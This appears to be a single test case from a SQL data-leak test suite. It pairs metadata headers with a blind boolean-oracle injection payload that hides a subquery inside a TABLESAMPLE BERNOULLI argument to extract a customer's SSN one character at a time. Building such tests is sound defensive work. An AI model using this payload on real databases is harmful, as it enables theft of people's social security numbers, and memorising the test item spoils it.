-- id: leak-941
-- class: oracle
-- technique: the argument of TABLESAMPLE
-- expect: EITHER
-- targets: customers.ssn
-- recognize: boolean oracle: the runner recovers the value from yes/no answers only
-- mutates: no
-- oracle: from=customers where="id = 7" col=ssn method=gt truth=rows

SELECT id FROM departments TABLESAMPLE BERNOULLI ((SELECT CASE WHEN ascii(substr(ssn, {pos}, 1)) > {code} THEN 100 ELSE 0 END FROM customers WHERE id = 7)) LIMIT 1;
